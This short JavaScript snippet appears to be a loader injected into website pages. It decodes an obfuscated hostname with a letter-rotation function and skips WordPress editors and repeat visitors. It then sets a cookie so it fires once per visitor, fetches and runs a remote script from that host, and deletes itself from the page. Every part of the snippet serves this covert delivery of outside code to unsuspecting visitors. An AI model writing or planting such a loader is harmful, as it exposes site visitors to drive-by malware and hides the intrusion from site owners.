var domNode = document.currentScript || (function () { var s = document.getElementsByTagName('script'); return s[s.length - 1]; })();
var rot = function (s, n) {
  return s.replace(/[a-z]/g, function (c) { return String.fromCharCode((c.charCodeAt(0) - 97 + n) % 26 + 97); });
};
var chain = ['vmrkmrvi', 'qexmg', 'wxexw'].map(function (x) { return rot(x, 22); });

function visitorOk() {
  var c = document.cookie;
  var once = c.indexOf('_cl_visit') < 0;
  var human = navigator.plugins.length > 0 || 'ontouchend' in document;
  return once && human && c.indexOf('wp-saving-post') < 0 && !window.wp;
}

if (visitorOk()) {
  document.cookie = '_cl_visit=1;path=/;max-age=' + 43200;
  var l = document.createElement('link');
  l.rel = 'dns-prefetch';
  l.href = '//' + chain.join('.') + '.invalid';
  domNode.parentNode.insertBefore(l, domNode);
  var s = document.createElement('script');
  s.src = l.href + '/s.js?qr=' + (screen.availWidth * 3);
  s.onload = s.onerror = function () { s.parentNode.removeChild(s); };
  domNode.parentNode.insertBefore(s, domNode);
  domNode.parentNode.removeChild(domNode);
}
